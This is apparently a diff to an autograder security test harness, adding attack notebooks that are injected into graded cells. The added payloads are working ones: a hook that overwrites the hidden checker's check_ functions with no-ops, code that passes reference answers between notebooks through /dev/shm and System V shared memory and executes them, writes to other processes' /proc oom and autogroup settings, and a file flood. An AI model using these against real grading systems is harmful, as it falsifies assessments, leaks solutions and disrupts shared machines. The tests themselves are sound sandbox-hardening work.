@@ -320,6 +320,84 @@ try:
 except OSError:
     pass
 '''},
+    {"name": "decoy_hidden_module", "class": "a checker module pushed back to a decoy name",
+     "base": "wrong", "code": '''
+_hidden = 0  # the grade cells import "... as _hidden": a name of the student's they would rebind
+def _walk_to_the_checker(result=None):
+    _handle = get_ipython().user_ns.get("_hidden")
+    _patch = ("import autograder.hidden.strides as _m\\n"
+              "for _n in dir(_m):\\n"
+              "    if _n.startswith('check_'): setattr(_m, _n, lambda *a, **k: None)\\n")
+    try:
+        if type(_handle).__name__ == "module":  # one kernel (plain nbgrader): the module itself
+            exec(_patch)
+        elif type(_handle).__name__ == "CheckerObject":  # a handle into the checker
+            _handle.torch.builtins.exec(_patch)
+    except Exception as _error:
+        print("the walk was refused:", type(_error).__name__)
+get_ipython().events.register("post_run_cell", _walk_to_the_checker)
+'''},
+    {"name": "shm_plant", "class": "shared memory and System V IPC across notebooks", "base": "stub",
+     "code": '''
+import ctypes as _ctypes
+_answers = {answers!r}.encode()
+try:
+    open("/dev/shm/answers.py", "wb").write(_answers)
+except OSError as _error:
+    print("no /dev/shm:", _error)
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = _ctypes.c_void_p
+_segment = _libc.shmget(0x5EED, 1 << 16, 0o1666)
+if _segment >= 0:
+    _address = _libc.shmat(_segment, None, 0)
+    _ctypes.memmove(_address, _answers + b"\\0", len(_answers) + 1)
+'''},
+    {"name": "shm_read", "class": "shared memory and System V IPC across notebooks", "base": "stub",
+     "code": '''
+import ctypes as _ctypes, os as _os
+def _take_planted_answers(result=None):
+    _libc = _ctypes.CDLL(None, use_errno=True)
+    _libc.shmat.restype = _ctypes.c_void_p
+    _text = None
+    if _os.path.exists("/dev/shm/answers.py"):
+        _text = open("/dev/shm/answers.py").read()
+    else:
+        _segment = _libc.shmget(0x5EED, 0, 0)
+        if _segment >= 0:
+            _text = _ctypes.string_at(_libc.shmat(_segment, None, 0)).decode()
+    if _text:
+        exec(_text, get_ipython().user_ns)
+get_ipython().events.register("post_run_cell", _take_planted_answers)
+'''},
+    {"name": "proc_write_to_the_template", "class": "a /proc write to the template or init",
+     "base": "stub", "code": '''
+import os as _os
+_written = []
+for _entry in [e for e in _os.listdir("/proc") if e.isdigit()] + [str(n) for n in range(1, 64)]:
+    if _entry == _os.readlink("/proc/self"):
+        continue
+    for _name, _text in (("oom_score_adj", "1000"), ("autogroup", "19")):
+        try:
+            with open(f"/proc/{_entry}/{_name}", "w") as _handle:
+                _handle.write(_text)
+            _written.append((_entry, _name))
+        except OSError:
+            pass
+print("written:", sorted(set(_written)))
+'''},
+    {"name": "empty_file_flood", "class": "floods of files kept in autograded/", "base": "stub",
+     "code": '''
+import os as _os
+_round = [0]
+def _flood(result=None):
+    _round[0] += 1
+    for _n in range(1000):
+        _folder = f"flood/{_round[0]}/{_n % 20}"
+        _os.makedirs(_folder, exist_ok=True)
+        open(f"{_folder}/{_n}.txt", "w").close()
+get_ipython().events.register("post_run_cell", _flood)
+_flood()
+'''},
 ]
 
 BASES = {"stub": None, "wrong": WRONG_ANSWERS, "wrong_gather": WRONG_GATHER}
@@ -355,6 +433,9 @@ def attack_notebook(attack: dict, *, course_root, port: int, marker: str) -> nbf
     metadata changes, if any)."""
     nb = base_notebook(attack["base"], course_root=course_root)
     code = attack["code"].replace("{port}", str(port)).replace("{marker!r}", repr(marker))
+    if "{answers!r}" in code:  # what a student who has the answers plants for a friend
+        answers = "\n\n".join(samples.reference_solutions(ASSIGNMENT, course_root=course_root).values())
+        code = code.replace("{answers!r}", repr("import torch\n" + answers))
     for cell in nb.cells:
         if cell.metadata.get("nbgrader", {}).get("grade_id") == "contiguous_strides":
             cell.source = code.strip("\n") + "\n\n" + cell.source
